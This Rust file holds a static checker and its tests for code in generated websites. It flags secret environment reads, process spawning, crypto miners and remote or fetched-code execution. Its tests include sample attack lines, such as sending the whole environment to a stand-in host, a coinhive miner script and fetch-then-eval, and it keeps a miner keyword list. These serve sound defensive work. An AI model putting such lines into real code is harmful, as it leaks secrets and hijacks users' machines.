//! The checks over plain strings, so they run natively in tests.

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Severity {
    Error,
    Warning,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub severity: Severity,
    pub path: String,
    pub line: u32,
    pub message: String,
}

const SOURCE_EXTENSIONS: &[&str] = &[".js", ".jsx", ".ts", ".tsx", ".mjs", ".cjs"];

/// Parts of a variable name that mark it as a credential.
const SECRET_WORDS: &[&str] = &[
    "KEY",
    "SECRET",
    "TOKEN",
    "PASSWORD",
    "PASSWD",
    "CREDENTIAL",
    "PRIVATE",
    "AUTH",
];

/// Names the environment may be read by without a second look: set by Node or Next.js, or
/// public by Next.js's own convention.
fn harmless_variable(name: &str) -> bool {
    matches!(
        name,
        "NODE_ENV" | "NEXT_RUNTIME" | "PORT" | "HOSTNAME" | "VERCEL_ENV"
    ) || name.starts_with("NEXT_PUBLIC_")
}

const MINING_MARKERS: &[&str] = &[
    "coinhive",
    "coin-hive",
    "cryptonight",
    "cryptoloot",
    "crypto-loot",
    "xmrig",
    "webminer",
    "minero.cc",
    "stratum+tcp://",
    "stratum+ssl://",
    "monero-pool",
];

/// Every finding in the project's source files, in file order.
pub fn check(files: &[(&str, &str)]) -> Vec<Finding> {
    let mut findings = Vec::new();
    for (path, text) in files {
        if !SOURCE_EXTENSIONS.iter().any(|ext| path.ends_with(ext)) {
            continue;
        }
        check_file(path, text, &mut findings);
    }
    findings
}

fn check_file(path: &str, text: &str, findings: &mut Vec<Finding>) {
    let mut found = |severity, line: usize, message: String| {
        findings.push(Finding {
            severity,
            path: path.to_owned(),
            line: line as u32 + 1,
            message,
        });
    };
    let fetches =
        text.contains("fetch(") || text.contains("axios") || text.contains("XMLHttpRequest");
    for (number, line) in text.lines().enumerate() {
        // The environment.
        for name in env_reads(line) {
            if SECRET_WORDS
                .iter()
                .any(|word| name.to_ascii_uppercase().contains(word))
            {
                found(
                    Severity::Error,
                    number,
                    format!(
                        "reads process.env.{name}, which looks like a secret: a generated site \
                         has none to read, and code that looks for them is refused"
                    ),
                );
            } else if !harmless_variable(name) {
                found(
                    Severity::Warning,
                    number,
                    format!(
                        "reads process.env.{name}; the site runs with no configuration, so it \
                         is undefined"
                    ),
                );
            }
        }
        if let Some(whole) = whole_environment(line) {
            found(
                Severity::Error,
                number,
                format!(
                    "reads the whole environment ({whole}): a generated site has no secrets to \
                     read, and code that looks for them is refused"
                ),
            );
        }

        // Processes.
        let lower = line.to_ascii_lowercase();
        if (line.contains("\"child_process\"")
            || line.contains("'child_process'")
            || line.contains("\"node:child_process\"")
            || line.contains("'node:child_process'")
            || line.contains("`child_process`"))
            || line.contains("Bun.spawn")
            || line.contains("Deno.Command")
        {
            found(
                Severity::Error,
                number,
                "spawns processes (child_process): a website's code has no programs to run, \
                 and code that starts them is refused"
                    .into(),
            );
        }

        // Mining.
        if let Some(marker) = MINING_MARKERS.iter().find(|marker| lower.contains(*marker)) {
            found(
                Severity::Error,
                number,
                format!("looks like a cryptocurrency miner ({marker}); refused"),
            );
        }

        // Remote code.
        if line.contains("import(\"http")
            || line.contains("import('http")
            || line.contains("import(`http")
        {
            found(
                Severity::Error,
                number,
                "imports code from a URL at run time; the arena runs only the code the reply \
                 contains"
                    .into(),
            );
        }
        let evaluates = has_call(line, "eval") || line.contains("new Function(");
        if evaluates {
            if fetches {
                found(
                    Severity::Error,
                    number,
                    "evaluates code (eval / new Function) in a file that fetches: running \
                     fetched code is refused"
                        .into(),
                );
            } else {
                found(
                    Severity::Warning,
                    number,
                    "evaluates code (eval / new Function); prefer plain functions".into(),
                );
            }
        }
    }
}

/// Variable names read as `process.env.NAME` or `process.env["NAME"]` on one line.
fn env_reads(line: &str) -> Vec<&str> {
    let mut names = Vec::new();
    let mut rest = line;
    while let Some(at) = rest.find("process.env") {
        let after = &rest[at + "process.env".len()..];
        let name = if let Some(dotted) = after.strip_prefix('.') {
            let end = dotted
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(dotted.len());
            &dotted[..end]
        } else if let Some(quoted) = after
            .strip_prefix("[\"")
            .or_else(|| after.strip_prefix("['"))
        {
            let end = quoted.find(['"', '\'']).unwrap_or(0);
            &quoted[..end]
        } else {
            ""
        };
        if !name.is_empty() {
            names.push(name);
        }
        rest = after;
    }
    names
}

/// How a line reads the environment as a whole, if it does: any use of `process.env` that
/// is not followed by a fixed name (`.NAME`, `["NAME"]`), e.g. `Object.keys(process.env)`,
/// `{ ...process.env }`, `process.env[name]` or passing the object on.
fn whole_environment(line: &str) -> Option<String> {
    let compact: String = line.chars().filter(|c| !c.is_whitespace()).collect();
    compact.match_indices("process.env").find_map(|(at, _)| {
        let after = &compact[at + "process.env".len()..];
        let named = after.starts_with('.') || after.starts_with("[\"") || after.starts_with("['");
        if named {
            return None;
        }
        let before = &compact[..at];
        let form = [
            ("Object.keys(", "Object.keys(process.env)"),
            ("Object.entries(", "Object.entries(process.env)"),
            ("Object.values(", "Object.values(process.env)"),
            ("JSON.stringify(", "JSON.stringify(process.env)"),
            ("...", "...process.env"),
        ]
        .iter()
        .find(|(prefix, _)| before.ends_with(prefix))
        .map(|(_, form)| *form)
        .unwrap_or(if after.starts_with('[') {
            "process.env[...]"
        } else {
            "the process.env object"
        });
        Some(form.to_owned())
    })
}

/// Whether `line` calls `name(` as a function of its own (not `.name(` or `xname(`).
fn has_call(line: &str, name: &str) -> bool {
    let call = format!("{name}(");
    line.match_indices(&call).any(|(at, _)| {
        line[..at]
            .chars()
            .next_back()
            .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '.' || c == '$'))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn errors(files: &[(&str, &str)]) -> Vec<String> {
        check(files)
            .into_iter()
            .filter(|f| f.severity == Severity::Error)
            .map(|f| format!("{}:{}: {}", f.path, f.line, f.message))
            .collect()
    }

    #[test]
    fn a_plain_site_passes() {
        let page = "export default function Page() {\n  const [n, setN] = useState(0);\n  \
                    return <button onClick={() => setN(n + 1)}>{n}</button>;\n}\n";
        assert!(check(&[("app/page.js", page)]).is_empty());
    }

    #[test]
    fn secrets_in_the_environment_are_refused_and_other_reads_warned() {
        let text = "const key = process.env.OPENAI_API_KEY;\nconst url = process.env.API_URL;\n\
                    const mode = process.env.NODE_ENV;\nconst t = process.env[\"GITHUB_TOKEN\"];\n";
        let found = check(&[("app/api/route.ts", text)]);
        let summary: Vec<(Severity, u32)> = found.iter().map(|f| (f.severity, f.line)).collect();
        assert_eq!(
            summary,
            [
                (Severity::Error, 1),
                (Severity::Warning, 2),
                (Severity::Error, 4)
            ]
        );
        assert!(found[0].message.contains("process.env.OPENAI_API_KEY"));
    }

    #[test]
    fn the_whole_environment_is_refused_in_each_spelling() {
        for line in [
            "fetch('https://x.example', { body: JSON.stringify(process.env) })",
            "for (const k of Object.keys(process.env)) {}",
            "const all = { ...process.env };",
            "const env = process.env;",
            "const v = process.env[name];",
        ] {
            assert_eq!(errors(&[("lib/a.js", line)]).len(), 1, "{line}");
        }
        assert!(errors(&[("lib/a.js", "const v = process.env.NEXT_PUBLIC_X;")]).is_empty());
    }

    #[test]
    fn processes_miners_and_remote_code_are_refused() {
        let cases = [
            "import { execSync } from \"child_process\";",
            "const { spawn } = require('node:child_process');",
            "<script src=\"https://coinhive.com/lib/coinhive.min.js\" />",
            "const pool = 'stratum+tcp://pool.example:3333';",
            "const mod = await import(\"https://cdn.example/x.js\");",
        ];
        for line in cases {
            assert_eq!(errors(&[("app/page.js", line)]).len(), 1, "{line}");
        }
        let fetched = "const code = await (await fetch(url)).text();\neval(code);\n";
        assert_eq!(
            errors(&[("app/page.js", fetched)]),
            [
                "app/page.js:2: evaluates code (eval / new Function) in a file that fetches: running \
             fetched code is refused"
            ]
        );
        // Without a fetch, eval is only a warning; `.eval(` is some other method.
        assert!(errors(&[("app/page.js", "eval('1 + 1'); math.eval(x);")]).is_empty());
    }

    #[test]
    fn only_source_files_are_read() {
        let readme = "Run with OPENAI_API_KEY: process.env.OPENAI_API_KEY";
        assert!(check(&[("README.md", readme)]).is_empty());
    }
}
